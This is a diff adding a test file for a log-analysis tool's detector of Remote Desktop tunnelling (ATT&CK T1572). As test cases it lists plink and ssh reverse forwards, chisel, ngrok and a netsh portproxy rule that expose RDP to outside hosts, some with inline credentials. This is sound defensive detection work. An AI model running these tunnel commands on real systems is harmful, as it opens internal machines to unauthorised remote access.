@@ -1,0 +1,127 @@
+/**
+ * `rdp-tunnel`'s tool and far end (issue 36): the commands that forward Remote Desktop as plink, ssh, chisel, ngrok
+ * and netsh write them, the sample (plink with -R, a failed and a successful sign-in through it) and its near miss
+ * (an IPv6 link-local LAN client, ssh with no forwarding), and the real sbousseaden tunnel log with Security 5156.
+ */
+import { existsSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { rdpTunnel } from '../../patterns/findings/rdp-tunnel.js';
+import { ATTACK_FINDINGS } from '../../patterns/index.js';
+import { neededForAnalysis } from '../../src/diagnose/analyze.js';
+import { tunnelCommand } from '../../src/diagnose/tunnel-tools.js';
+import type { Finding } from '../../src/model/attempt.js';
+import { ROOT, rdpdiag } from '../helpers/cli.js';
+import { CORPUS, corpusPath, HAVE_CORPUS, NO_CORPUS_REASON } from '../helpers/corpus.js';
+import { eventsFromXml, sampleXml } from '../helpers/pipeline.js';
+
+const FOLDER = 'samples/findings/rdp-tunnel';
+
+interface JsonReport {
+  attempts: { id: string; outcome: string; client: { address?: string } }[];
+  findings: Finding[];
+}
+
+async function tunnels(...files: string[]): Promise<{ json: JsonReport; found: Finding[] }> {
+  const r = await rdpdiag(['analyze', '--format', 'json', ...files]);
+  expect(r.stderr).toBe('');
+  const json = JSON.parse(r.stdout) as JsonReport;
+  return { json, found: json.findings.filter((f) => f.id === rdpTunnel.id) };
+}
+
+describe('rdp-tunnel: its home as data', () => {
+  it('is an attack finding with ATT&CK T1572, references, false positives, a sample and a near miss', () => {
+    expect(ATTACK_FINDINGS).toContain(rdpTunnel);
+    expect(rdpTunnel.techniques.map((t) => t.technique.id)).toContain('T1572');
+    for (const s of [...rdpTunnel.samples, ...rdpTunnel.nearMisses]) expect(existsSync(join(ROOT, s.file))).toBe(true);
+  });
+});
+
+describe('rdp-tunnel: the commands that forward Remote Desktop', () => {
+  it.each([
+    ['plink.exe -ssh -R 3389:127.0.0.1:3389 -P 443 -l u -pw x 203.0.113.50', '203.0.113.50:443'],
+    ['"C:\\Tools\\plink.exe" -R 127.0.0.1:13389:127.0.0.1:3389 jump@198.51.100.7', 'jump@198.51.100.7'],
+    ['ssh.exe -N -R 3389:localhost:3389 -p 2222 op@203.0.113.9', 'op@203.0.113.9:2222'],
+    ['ssh -L 13389:10.0.0.5:3389 gw.example.test', 'gw.example.test'],
+    ['chisel.exe client 203.0.113.80:8080 R:3389:127.0.0.1:3389', '203.0.113.80:8080'],
+    ['ngrok.exe tcp 3389', "ngrok's service"],
+  ])('%s: far end %s', (command, farEnd) => {
+    expect(tunnelCommand(command)).toEqual({ forwards: true, farEnd });
+  });
+
+  it('netsh interface portproxy: where it listens', () => {
+    expect(
+      tunnelCommand(
+        'netsh interface portproxy add v4tov4 listenport=4444 listenaddress=0.0.0.0 connectport=3389 connectaddress=127.0.0.1',
+      ),
+    ).toEqual({ forwards: true, listens: '0.0.0.0:4444' });
+  });
+
+  it.each([
+    ['ssh.exe build@10.30.0.40 make release'],
+    ['plink.exe -ssh -L 8080:intranet:80 user@203.0.113.50'],
+    ['netsh interface portproxy show all'],
+  ])('forwards nothing to Remote Desktop: %s', (command) => {
+    expect(tunnelCommand(command)?.forwards ?? false).toBe(false);
+  });
+});
+
+describe('rdp-tunnel on its samples', () => {
+  it('plink -R: the tool, who started it, when, its far end; the failed sign-in through it is the tunnel’s', async () => {
+    const { json, found } = await tunnels(`${FOLDER}/plink.xml`);
+    const [f, ...more] = found;
+    expect(more).toEqual([]);
+    expect(f.tunnel?.tools).toEqual([
+      {
+        image: 'plink.exe',
+        path: 'C:\\Users\\dev01\\AppData\\Local\\Temp\\plink.exe',
+        command: 'plink.exe -ssh -R 3389:127.0.0.1:3389 -P 22 -l tun -batch 203.0.113.50',
+        by: 'CORP\\dev01',
+        started: '2025-06-17T22:41:02.1180000Z',
+        farEnd: '203.0.113.50:22',
+        toRdp: '127.0.0.1 → 127.0.0.1:3389',
+      },
+    ]);
+    expect(f.attempts).toEqual(json.attempts.map((a) => a.id));
+    expect(json.attempts.map((a) => a.outcome)).toEqual(['failed', 'succeeded']);
+    expect(f.explanation).toMatch(/Block 203\.0\.113\.50:22 next/);
+    expect(f.confidence).toBe(0.9);
+  });
+
+  it('the near miss: an IPv6 link-local LAN client and ssh with no forwarding make no tunnel', async () => {
+    const { json, found } = await tunnels(`${FOLDER}/near-miss.xml`);
+    expect(found).toEqual([]);
+    expect(json.attempts.map((a) => a.outcome)).toEqual(['succeeded']);
+  });
+
+  it('reading keeps the tool’s process and connections, not the rest of a busy log', () => {
+    const keep = neededForAnalysis();
+    const events = eventsFromXml(sampleXml(`${FOLDER}/plink.xml`));
+    expect(events.filter((e) => e.eventId === 4688 || e.eventId === 5156).every(keep)).toBe(true);
+    const other = eventsFromXml(
+      sampleXml(`${FOLDER}/near-miss.xml`)
+        .replace(/ssh\.exe/g, 'notepad.exe')
+        .replace("<Data Name='DestPort'>22</Data>", "<Data Name='DestPort'>443</Data>"),
+    );
+    expect(other.filter((e) => e.eventId === 4688 || e.eventId === 5156).some(keep)).toBe(false);
+  });
+});
+
+describe.skipIf(!HAVE_CORPUS)(`rdp-tunnel on the real tunnel logs (${HAVE_CORPUS ? CORPUS : NO_CORPUS_REASON})`, () => {
+  it('DE_RDP_Tunnel_5156: plink.exe started by EXAMPLE\\user01, its far end 10.0.2.18:80, the forwarder into 3389', async () => {
+    const { found } = await tunnels(
+      corpusPath('sbousseaden__EVTX-ATTACK-SAMPLES/Command and Control/DE_RDP_Tunnel_5156.evtx'),
+    );
+    const [f, ...more] = found;
+    expect(more).toEqual([]);
+    expect(f.tunnel?.tools).toEqual([
+      expect.objectContaining({
+        image: 'plink.exe',
+        path: 'C:\\Users\\user01\\Desktop\\plink.exe',
+        by: 'EXAMPLE\\user01',
+        farEnd: '10.0.2.18:80',
+        toRdp: '127.0.0.1 → 127.0.0.2:3389',
+      }),
+    ]);
+  });
+});
